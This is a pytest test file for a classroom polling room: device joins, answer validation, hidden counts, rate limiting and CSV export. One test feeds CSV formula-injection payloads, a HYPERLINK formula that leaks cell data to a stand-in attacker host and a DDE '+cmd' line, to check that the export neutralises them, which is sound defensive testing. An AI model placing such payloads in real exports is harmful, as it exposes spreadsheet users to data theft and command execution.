"""The room: who may answer what, the counts, the limits and the CSV; no server, no Qt."""
import csv
import io

import pytest

from attnviz.class_screens.room import ALPHABET, CODE_LENGTH, Bucket, Poll, Room, RoomError, Shown, new_code

A, B, C = "a" * 32, "b" * 32, "c" * 32
POLL = Poll("4", {"ja": "どの鍵？", "en": "Which key?"}, ((0, "The"), (1, "cat"), (2, "sat")))


def asking(poll=POLL, number=4) -> Room:
    room = Room(code="ABC234")
    room.show(Shown(number, 10, {"ja": "猫", "en": "the cat"}, poll, b"png"))
    return room


def test_a_code_is_six_characters_that_cannot_be_misread():
    codes = {new_code() for _ in range(200)}
    assert all(len(c) == CODE_LENGTH and set(c) <= set(ALPHABET) for c in codes)
    assert not set("O0I1") & set(ALPHABET)
    assert len(codes) > 190  # random, not a counter


def test_one_answer_per_device_changeable_until_the_reveal():
    room = asking()
    for device in (A, B, C):
        room.join(device)
    room.answer(A, "4", 1)
    room.answer(B, "4", 1)
    room.answer(C, "4", 0)
    room.answer(A, "4", 2)  # A changes its mind: still one answer
    assert room.counts()[1] == [1, 1, 1]
    room.reveal(1)
    with pytest.raises(RoomError) as e:
        room.answer(C, "4", 1)
    assert e.value.status == 409
    assert room.counts()[1] == [1, 1, 1]
    state = room.state("en", C)
    assert state["question"]["answer"] == 1 and state["question"]["mine"] == 0
    assert state["question"]["counts"] == [1, 1, 1] and not state["question"]["open"]


@pytest.mark.parametrize("device, key, value, status", [
    ("d" * 32, "4", 1, 403),        # never joined
    (A, "3", 1, 409),               # another question
    (A, "4", 3, 400),               # not a choice
    (A, "4", True, 400),            # a bool is no choice
    (A, "4", "1", 400),             # nor a text
    (A, "4", 1.0, 400),
    ("A" * 32, "4", 1, 400),        # not a device id
    ("a" * 33, "4", 1, 400),
    (None, "4", 1, 400),
])
def test_what_is_refused_changes_nothing(device, key, value, status):
    room = asking()
    room.join(A)
    before = room.version
    with pytest.raises(RoomError) as e:
        room.answer(device, key, value)
    assert e.value.status == status
    assert room.counts()[1] == [0, 0, 0] and room.version == before


def test_the_room_holds_at_most_its_devices():
    room = Room(most_devices=3)
    for d in ("1" * 32, "2" * 32, "3" * 32):
        room.join(d)
    room.join("1" * 32)  # one already in comes back
    with pytest.raises(RoomError) as e:
        room.join("4" * 32)
    assert e.value.status == 429 and room.joined == 3


def test_counts_are_hidden_from_the_class_until_shown_or_revealed():
    room = asking()
    room.join(A)
    room.answer(A, "4", 2)
    assert room.state("ja", A)["question"]["counts"] is None
    room.show_counts(True)
    assert room.state("ja", A)["question"]["counts"] == [0, 0, 1]
    assert room.state("ja", A)["question"]["text"] == "どの鍵？" and room.state("ja")["caption"] == "猫"


def test_a_question_shown_again_keeps_its_answers_and_a_new_one_starts_empty():
    room = asking()
    room.join(A)
    room.answer(A, "4", 2)
    room.show(Shown(5, 10, {"ja": "", "en": ""}, Poll("5", {"ja": "", "en": ""}, ((0, "x"), (1, "y")))))
    assert room.counts()[1] == [0, 0]
    room.show(Shown(4, 10, {"ja": "", "en": ""}, POLL))
    assert room.counts()[1] == [0, 0, 1]


def test_closing_answers_refuses_them_and_opening_again_takes_them():
    room = asking()
    room.join(A)
    room.set_open(False)
    with pytest.raises(RoomError):
        room.answer(A, "4", 0)
    room.set_open(True)
    room.answer(A, "4", 0)
    assert room.counts()[1] == [1, 0, 0]


def test_the_csv_has_every_question_its_counts_and_the_right_answer():
    room = asking()
    for d in (A, B):
        room.join(d)
    room.answer(A, "4", 1)
    room.answer(B, "4", 2)
    room.reveal(1)
    room.show(Shown(7, 10, {"ja": "", "en": ""}, Poll("7", {"ja": "次は？", "en": "Next?"}, ((5, "dog"),))))
    room.answer(B, "7", 5)
    rows = list(csv.reader(io.StringIO(room.csv_text("ja"))))
    assert rows == [["lesson", "scene", "question", "choice", "count", "right"],
                    ["", "4", "どの鍵？", "The", "0", "no"], ["", "4", "どの鍵？", "cat", "1", "yes"],
                    ["", "4", "どの鍵？", "sat", "1", "no"], ["", "7", "次は？", "dog", "1", ""]]


def test_no_cell_of_the_csv_runs_as_a_formula():
    """A lesson file's title, question and tokens are its author's: a spreadsheet opening the CSV runs none
    (attacker round 35: =HYPERLINK(...) and +cmd|' /C calc'!A0 were written as they were)."""
    poll = Poll("4", {"ja": "=1+2", "en": "@SUM(A1)"}, ((0, '=HYPERLINK("http://ev.il/?"&A1)'),
                                                        (1, "+cmd|' /C calc'!A0"), (2, "-2"), (3, "\tx")))
    room = Room(code="ABC234")
    room.show(Shown(4, 10, {"ja": "", "en": ""}, poll, title={"ja": "=授業", "en": "=Lesson"}))
    rows = list(csv.reader(io.StringIO(room.csv_text("ja"))))
    cells = [cell for row in rows[1:] for cell in row[:4]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][:4] == ["'=授業", "4", "'=1+2", "'=HYPERLINK(\"http://ev.il/?\"&A1)"]
    assert [row[3] for row in rows[2:]] == ["'+cmd|' /C calc'!A0", "'-2", "'⇥x"]  # the tab made visible


def test_another_lessons_question_under_the_same_key_is_another_question():
    """A lesson opened while the room is open asks its own scene 4: the first lesson's answers are not its
    answers, an answer of the first outside its choices breaks nothing, and the CSV keeps both (attacker round
    35: the old answers came back as the new question's, closed, or counting them raised a ValueError)."""
    room = Room(code="ABC234")
    wide = Poll("4", {"ja": "どれ？", "en": "Which?"}, tuple((k, f"t{k}") for k in range(8)))
    room.show(Shown(4, 10, {"ja": "", "en": ""}, wide, title={"ja": "一", "en": "One"}))
    for d in (A, B):
        room.join(d)
    room.answer(A, "4", 6)
    room.reveal(6)
    room.show(Shown(4, 12, {"ja": "", "en": ""}, POLL, title={"ja": "二", "en": "Two"}))
    poll, counts, open_ = room.counts()
    assert (poll.answer, counts, open_) == (None, [0, 0, 0], True) and poll.key == "4.2"
    with pytest.raises(RoomError):  # a page still showing the first lesson's: not counted for this one
        room.answer(B, "4", 2)
    room.answer(B, "4.2", 2)
    assert room.counts()[1] == [0, 0, 1] and room.asked == 2
    rows = list(csv.reader(io.StringIO(room.csv_text("en"))))
    assert [r[0] for r in rows[1:]] == ["One"] * 8 + ["Two"] * 3
    assert [r[4] for r in rows if r[3] == "t6"] == ["1"] and [r[4] for r in rows if r[3] == "sat"] == ["1"]


def test_an_edited_question_is_asked_anew_and_the_same_one_keeps_its_answers():
    room = asking()
    room.join(A)
    room.answer(A, "4", 1)
    room.show(Shown(5, 10, {"ja": "", "en": ""}))
    room.show(Shown(4, 10, {"ja": "", "en": ""}, POLL))  # back to it: its answers kept
    assert room.counts()[1] == [0, 1, 0] and room.asked == 1
    fewer = Poll("4", POLL.text, POLL.choices[:2])
    room.show(Shown(4, 10, {"ja": "", "en": ""}, fewer))  # the lesson edited, given again
    assert room.counts()[1] == [0, 0] and room.asked == 2


def test_the_same_question_in_another_language_keeps_its_answers_and_another_right_answer_does_not():
    """The window switched language: the choices' labels change, the question does not (attacker round 36: the
    class's answers were dropped). A scene of the same words and choices asking of something else (the lesson
    editor moved it under this number) is another question."""
    room = Room(code="ABC234")
    asked = Poll("4", POLL.text, POLL.choices, asks="head 0 right 1")
    room.show(Shown(4, 10, {"ja": "", "en": ""}, asked))
    room.join(A)
    room.answer(A, "4", 1)
    in_japanese = Poll("4", POLL.text, ((0, "その"), (1, "猫"), (2, "座った")), asks="head 0 right 1")
    room.show(Shown(4, 10, {"ja": "", "en": ""}, in_japanese))
    assert room.counts()[1] == [0, 1, 0] and room.asked == 1
    assert [c["label"] for c in room.state("en", A)["question"]["choices"]] == ["その", "猫", "座った"]
    room.show(Shown(4, 10, {"ja": "", "en": ""}, Poll("4", POLL.text, POLL.choices, asks="head 1 right 2")))
    assert room.counts()[1] == [0, 0, 0] and room.asked == 2


def test_the_same_answer_again_tells_no_page():
    """Every change is pushed to every page: an answer given again as it was is no change (attacker round 37: a
    tapping student pushed the state to the whole class at each tap)."""
    room = asking()
    room.join(A)
    room.answer(A, "4", 1)
    version = room.version
    room.answer(A, "4", 1)
    assert room.version == version
    room.answer(A, "4", 2)
    assert room.version == version + 1


def test_a_scene_shown_again_hides_its_counts_until_the_teacher_shows_them():
    """The window hides the counts at every scene: the room does too (attacker round 35: Q, a scene and back
    left the students' pages showing the counts the projector hid)."""
    room = asking()
    room.join(A)
    room.answer(A, "4", 1)
    room.show_counts(True)
    assert room.state("en", A)["question"]["counts"] == [0, 1, 0]
    room.show(Shown(5, 10, {"ja": "", "en": ""}))
    room.show(Shown(4, 10, {"ja": "", "en": ""}, POLL))
    assert room.state("en", A)["question"]["counts"] is None


def test_a_bucket_allows_its_burst_then_its_rate():
    now = [0.0]
    bucket = Bucket(rate=5, burst=20, clock=lambda: now[0])
    assert sum(bucket.take(A) for _ in range(1000)) == 20
    now[0] += 1.0
    assert sum(bucket.take(A) for _ in range(1000)) == 5
    assert bucket.take(B)  # another device is not held back


def test_the_picture_has_its_own_version():
    room = asking()
    first = room.state("en")["picture"]
    room.join(A)
    assert room.state("en")["picture"] == first  # an answer or a join: no picture to load again
    room.picture_changed(b"png2")
    assert room.state("en")["picture"] == first + 1 and room.picture() == b"png2"


def test_a_bucket_forgets_those_full_again_past_its_most():
    now = [0.0]
    bucket = Bucket(rate=5, burst=20, clock=lambda: now[0], most=100)
    for i in range(100):
        bucket.take(f"{i}")
    now[0] += 10.0  # every one of them full again
    bucket.take("new")
    assert list(bucket.left) == ["new"]


# attacker round 43: a room opened after another counted its pictures from 0 again, and a page still open kept
# the last scene's picture (the same number); the next class found the last one's devices until it was full
def test_a_room_that_follows_another_keeps_its_code_and_counts_on():
    first = Room()
    first.show(Shown(2, 5, {"ja": "", "en": ""}, None, b"scene 2"))
    first.join(A)
    seen = first.state("en")["picture"]
    again = Room(earlier=first, same_class=True)
    assert again.code == first.code and again.has(A)
    nextclass = Room(earlier=first)
    nextclass.show(Shown(4, 5, {"ja": "", "en": ""}, None, b"scene 4"))
    assert nextclass.code == first.code and not nextclass.has(A) and nextclass.joined == 0
    assert nextclass.state("en")["picture"] > seen and nextclass.state("en")["version"] > first.version


def test_the_next_class_s_question_at_the_same_scene_refuses_a_tap_meant_for_the_last_class_s():
    """Attacker round 45: keys began again at "4" in the next class, and a page still showing the last
    class's question at scene 4 (it joins again and sends its tap again) was counted for the new one."""
    first = asking()
    first.join(A)
    first.answer(A, "4", 1)
    other = Poll("4", {"ja": "次は？", "en": "Next?"}, ((0, "a"), (1, "b")))
    nextclass = Room(earlier=first)
    nextclass.show(Shown(4, 10, {"ja": "", "en": ""}, other, b"png"))
    nextclass.join(A)
    with pytest.raises(RoomError) as e:
        nextclass.answer(A, "4", 1)
    assert e.value.status == 409 and nextclass.counts()[1] == [0, 0]
    key = nextclass.state("en")["question"]["key"]
    nextclass.answer(A, key, 1)
    assert nextclass.counts()[1] == [0, 1]
    rows = list(csv.reader(io.StringIO(nextclass.csv_text("en"))))[1:]
    assert {row[1] for row in rows} == {"4"}  # both at scene 4, as the teacher numbers them
